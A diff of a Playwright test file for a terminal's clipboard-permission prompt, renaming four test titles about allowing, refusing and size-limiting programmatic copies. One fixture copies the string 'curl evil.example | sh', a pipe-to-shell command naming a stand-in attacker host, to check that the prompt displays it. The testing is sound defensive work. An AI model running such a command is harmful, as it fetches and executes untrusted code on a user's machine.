@@ -45,7 +45,7 @@ const copy = (text: string, into = session) =>
 const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
 const question = (page: Page) => page.getByRole("alertdialog");
 
-test("a program copies only after the person agreed, who is asked once for a terminal", async () => {
+test("copying needs one permission per terminal", async () => {
   const page = await open();
   copy("curl evil.example | sh\n");
   await question(page).getByText("curl evil.example | sh⏎").waitFor();
@@ -69,7 +69,7 @@ test("a program copies only after the person agreed, who is asked once for a ter
   expect(await clipboard(page)).toBe("the next one");
 });
 
-test("a refusal holds for the terminal", async () => {
+test("a refusal lasts for the terminal", async () => {
   const page = await open();
   copy("one");
   await page.getByRole("button", { name: "Don’t allow" }).click();
@@ -80,7 +80,7 @@ test("a refusal holds for the terminal", async () => {
   expect(await clipboard(page)).toBe("mine");
 });
 
-test("a program never reads the clipboard", async () => {
+test("programs cannot read the clipboard", async () => {
   const page = await open();
   copy("one");
   await page.getByRole("button", { name: "Allow copying" }).click();
@@ -89,7 +89,7 @@ test("a program never reads the clipboard", async () => {
   expect(session.input).toBe("");
 });
 
-test("more than a mebibyte is not copied, and what is shown is short", async () => {
+test("large copies are refused and previews are short", async () => {
   const page = await open({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });
   copy("word ".repeat(2_000));
   await question(page).getByText("(10000 characters)").waitFor();
